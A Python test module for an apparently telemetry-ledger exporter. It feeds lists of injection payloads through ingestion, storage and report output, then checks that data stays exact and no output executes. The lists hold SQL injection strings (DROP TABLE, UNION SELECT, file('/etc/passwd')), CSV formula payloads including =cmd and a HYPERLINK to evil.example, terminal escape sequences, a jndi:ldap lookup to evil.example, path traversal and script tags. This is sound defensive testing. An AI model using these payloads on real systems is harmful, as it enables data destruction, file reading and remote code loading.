"""Names that are programs elsewhere (SQL, formulas, terminal sequences, log lines), sent as names.

As tenant, model, feature and metadata, through intake, journal, posting, reports, SQL and explanations: the rows are
exact, the tables are the ones that were there, and no form of output runs them.
`python tests/faults change injection`.
"""

import asyncio
import csv
import io
import json
import tempfile
from collections import Counter
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Final, cast

from faults.table import Line
from opentelemetry.proto.trace.v1.trace_pb2 import Span
from support.commands import run as command
from support.otlp import Value, chat, request, span

from spanledger.exporter.credential import Credential
from spanledger.exporter.journal import Signal
from spanledger.exporter.pipeline import open_pipeline
from spanledger.exporter.settings import load
from spanledger.exporter.store import Store
from spanledger.ledger import Ledger

_SQL: Final = (
    "'; DROP TABLE ledger_events; --",
    "' OR 1=1 --",
    "\\'; TRUNCATE TABLE ledger_claims; --",
    '"; SELECT sleep(3); --',
    "`; SYSTEM SHUTDOWN; `",
    "acme' UNION ALL SELECT name FROM system.tables --",
    "{tenant:String}",
    "%(tenant)s %s {0}",
    "url('http://127.0.0.1:9/', CSV)",
    "file('/etc/passwd')",
    "a') FORMAT Values ('b",
    "\\N",
    "NULL",
    "/* */ --",
)
_FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20a",
    'a","=1+1","',
)
_TERMINALS: Final = (
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m",
    "a\x08\x08b",
    "a\rb",
    "\u202e\u2066evil\u2069",
    "\u200b\ufeff",
    "\x7f",
)
_LINES: Final = (
    'x\n{"level":"fatal","message":"all is lost"}',
    "x\r\nspanledger ready grpc=evil http=evil api=evil store=evil",
    "x\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029y",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "a,b;c|d",
    "[bold red]a[/bold red]",
    "%n%s",
)
NAMES: Final = (*_SQL, *_FORMULAS, *_TERMINALS, *_LINES)
_STARTS: Final = (*"=+-@\t\r\n\0", *"\uff1d\uff0b\uff0d\uff20")

_FORMS: Final = ("table", "csv", "json")
_BY: Final = ("tenant,model", "feature")
_METADATA: Final = "SELECT tenant, metadata FROM charges ORDER BY tenant"


def body() -> bytes:
    """One call for each name, which is all that is named in it; its metadata's key as well."""
    return request(*(_call(number, name) for number, name in enumerate(NAMES, 1)))


def posted(store: Path) -> tuple[list[str], list[str]]:
    """Post them; the tables of the store before and after."""
    pipeline = open_pipeline(load({"SPANLEDGER_STORE": str(store)}))
    try:
        before = _tables(pipeline.store)
        asyncio.run(pipeline.intake(Signal.TRACES, body(), Credential("*", "home")))
        pipeline.post(close_window=True)
        return before, _tables(pipeline.store)
    finally:
        pipeline.close()


def rows_of(store: Path) -> tuple[Counter[str], list[str]]:
    """How often each name was charged, and what is wrong about its row."""
    with Ledger(str(store)) as ledger:
        table = ledger.sql("SELECT tenant, model, feature, metadata, requests, input_tokens, response_id FROM charges")
    wrong: list[str] = []
    charged: Counter[str] = Counter()
    for tenant, model, feature, metadata, requests, tokens, response in table.rows:
        name = NAMES[int(cast("str", response).removeprefix("r-")) - 1]
        charged[name] += 1
        kept = cast("Mapping[str, str]", metadata)
        if [tenant, model, feature, kept] != [name, name, name, {"note": name, name: name}]:
            wrong.append(f"{name!r} is {tenant!r}, {model!r}, {feature!r}, {kept!r}")
        if (requests, tokens) != (1, 100):
            wrong.append(f"{name!r} used {requests}, {tokens}")
    return charged, wrong


def outputs(store: Path) -> Iterator[tuple[str, str, str]]:
    """Form, what was asked, and what a command printed."""
    for by in _BY:
        for form in _FORMS:
            yield form, f"report --by {by}", _printed("report", "--store", store, "--by", by, "--format", form)
    for form in _FORMS:
        yield form, _METADATA, _printed("sql", "--store", store, "--format", form, _METADATA)
    for number in (len(_SQL) + len(_FORMULAS) + 1, len(NAMES) - 8):
        for form in ("table", "json"):
            yield form, f"explain r-{number}", _printed("explain", "--store", store, "--format", form, f"r-{number}")


def unsafe(form: str, text: str) -> list[str]:
    """What a terminal, a spreadsheet or a parser would take for something else than a name."""
    lines = text.split("\n")
    if form == "csv":
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        return [f"a cell begins with {cell[:1]!r}" for cell in cells if cell.startswith(_STARTS)]
    found = [f"prints {line!r}" for line in lines if not line.isprintable()]
    if form == "json":
        json.loads(text)
    else:
        found += [f"a line of its own: {line!r}" for line in lines if line.startswith(("spanledger ready", '{"level"'))]
    return found


def run(_: int) -> Line:
    """The programme; each size tries all."""
    with tempfile.TemporaryDirectory() as folder:
        store = Path(folder, "store")
        before, after = posted(store)
        charged, wrong = rows_of(store)
        wrong += [] if before == after else [f"tables were {before} and are {after}"]
        for form, what, text in outputs(store):
            wrong += [f"{what} as {form}: {each}" for each in unsafe(form, text)]
    lost = sum(name not in charged for name in NAMES)
    doubled = sum(count > 1 for count in charged.values())
    return Line("injection", len(NAMES), lost, doubled, wrong, note=f"{len(wrong)} unsafe")


def _call(number: int, name: str) -> Span:
    stated: dict[str, Value] = {
        **chat(gen_ai__request__model=name, gen_ai__response__model=name, gen_ai__response__id=f"r-{number}"),
        "ledger.tenant": name,
        "ledger.feature": name,
        "ledger.note": name,
        f"ledger.{name}": name,
    }
    return span(stated, span_id=number, trace_id=number)


def _tables(store: Store) -> list[str]:
    found = store.query("SELECT name FROM system.tables WHERE database = currentDatabase()")
    return sorted(str(name) for (name,) in found)


def _printed(*arguments: str | Path) -> str:
    ended = command(*arguments)
    assert ended.returncode == 0, ended.stderr
    return ended.stdout
